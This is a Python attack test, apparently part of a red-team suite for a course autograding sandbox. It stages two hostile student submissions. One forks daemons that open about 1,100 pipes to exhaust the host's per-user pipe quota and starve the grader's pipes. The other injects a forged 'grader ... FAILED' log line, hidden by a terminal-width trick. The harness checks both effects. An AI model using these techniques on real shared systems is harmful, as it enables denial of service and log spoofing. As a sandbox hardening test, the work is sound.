"""a02: two hostile students in one run.
mallory: per-host-user pipe accounting (fs.pipe-user-pages-soft, 16,384 pages): F_SETPIPE_SZ is refused, but every
plain pipe charges 16 pages to its user, so 1,100 plain pipes (two processes of 550) pass the soft limit; as an
ordinary user the sandbox's user IS the grader's user, so every new pipe of the grader's user anywhere on the host
(the grader's own, the observer's channel, the TA's other processes) shrinks to 2 pages. A daemon holds them 60 s;
a host sampler (uid 65534, outside any sandbox) reads F_GETPIPE_SZ of fresh pipes.
nina: kept-log fold vs East-Asian *ambiguous* width: fold() counts U+2500 as 1 column; a terminal set to
ambiguous=wide (CJK locales) draws 2. 32 of them after the 16-column label fill an 80-column row exactly, so the
fake grader text after them begins the next terminal row. Fails its own submission (30,000 displays) to get a kept log."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
import glob, subprocess, unicodedata
A = "ps1_memory"
pipes = sol(A, "training_memory") + r'''
import os, time, fcntl
def _hold():
    if os.fork(): return
    os.setsid()
    if os.fork(): os._exit(0)
    os.fork()                      # two holders
    ps = []
    try:
        for i in range(550):
            ps.append(os.pipe())
    except OSError as e:
        pass
    r, w = os.pipe()
    with open("/tmp/pipes_%d.txt" % os.getpid(), "w") as f: f.write(f"{len(ps)} {fcntl.fcntl(w, 1032)}\n")
    time.sleep(60)
    os._exit(0)
_hold()
time.sleep(3)
import glob as _g
print("HOLDERS", [open(p).read() for p in _g.glob("/tmp/pipes_*.txt")])
'''
amb = sol(A, "training_memory") + r'''
import os
fake = "[E 05:31:07 grader] zoe FAILED"
line = "\u2500" * 32 + fake
for fd in (1, 2):
    os.write(fd, (line + "\n").encode())
from IPython.display import display
for i in range(30000):
    display(i)
'''
d = make_course("a02", A, {"mallory": {"training_memory": pipes}, "nina": {"training_memory": amb}})
log = "/tmp/attack32-user-a02-sampler.txt"; open(log, "w").close(); os.chmod(log, 0o666)
samp = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
                         sys.executable, "tests/attacks/round32/user/pipe_sampler.py", "400", log])
grade(d, A)
samp.kill()
scores(d, A)
print("OUT mallory:", outputs(d, "mallory", A, "training_memory")[:400])
s = open(log).read().splitlines()
print("SAMPLER rows:", len(s)); 
small = [l for l in s if "pipe_size=65536" not in l]
print("SAMPLER small-pipe rows:", len(small)); print("\n".join(s[:3] + ["..."] + small[:8] + ["..."] + small[-4:] + s[-3:]))
for f in glob.glob(f"{d}/grading_logs/**/*.log", recursive=True):
    t = open(f, encoding="utf-8").read()
    print("LOG", f, len(t))
    for l in t.splitlines():
        if "\u2500" in l or "FAILED" in l:
            # render as an 80-col terminal with ambiguous=wide would
            w = lambda c: 2 if unicodedata.east_asian_width(c) in "WFA" else 1
            rows, row, col = [], "", 0
            for c in l:
                if col + w(c) > 80: rows.append(row); row, col = "", 0
                row += c; col += w(c)
            rows.append(row)
            print("  kept line:", repr(l), " fold-counted cols:", sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in l))
            print("  as an ambiguous=wide 80-col terminal draws it:"); [print("   |" + r) for r in rows]
canary_scan(d)
